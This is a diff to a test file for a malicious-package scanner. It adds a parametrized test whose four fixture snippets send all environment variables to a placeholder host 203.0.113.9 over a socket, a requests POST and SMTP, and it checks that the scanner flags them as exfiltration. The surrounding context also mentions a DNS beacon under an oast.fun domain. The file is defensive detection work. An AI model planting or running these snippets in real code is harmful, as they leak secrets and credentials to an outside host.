@@ -5,6 +5,8 @@ from __future__ import annotations
 import base64
 import zlib
 
+import pytest
+
 from tests.packages.helpers import facts_of, sdist, verdict, wheel_bytes
 
 BENIGN_SETUP = '''
@@ -206,3 +208,20 @@ def test_dns_name_built_under_an_oast_domain_at_install_is_a_beacon() -> None:
     fixed = setup_py.replace('f"{chunk}.c7q2.oast.fun"', '"c7q2.oast.fun"')  # a fixed name carries no data
     assert "package.install-beacon:critical" not in verdict(sdist("corp-internal-sdk", "99.0.0",
                                                                   {"setup.py": fixed}))[1]
+
+
+@pytest.mark.parametrize("code", [
+    "import socket, os, json\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\n"
+    "s.sendall(json.dumps(dict(os.environ)).encode())\n",
+    "import socket, os\nwith socket.create_connection(('203.0.113.9', 4444)) as s:\n"
+    "    s.sendall(str(dict(os.environ)).encode())\n",
+    "import requests, os\ns = requests.Session()\ns.post('http://203.0.113.9/c', json=dict(os.environ))\n",
+    "import smtplib, os\nm = smtplib.SMTP('203.0.113.9')\n"
+    "m.sendmail('a@example.org', 'b@example.org', str(os.environ))\n",
+])
+def test_environment_sent_through_a_client_object_at_import_is_exfiltration(code: str) -> None:
+    """The methods of a socket, session or SMTP client made in the file are network calls too."""
+    setup = "from setuptools import setup\nsetup(name='envtool', packages=['envtool'])\n"
+    data = sdist("envtool", "0.1", {"envtool/__init__.py": code, "setup.py": setup})
+    result, top = verdict(data)
+    assert result == "malicious" and "package.exfiltration:critical" in top, top
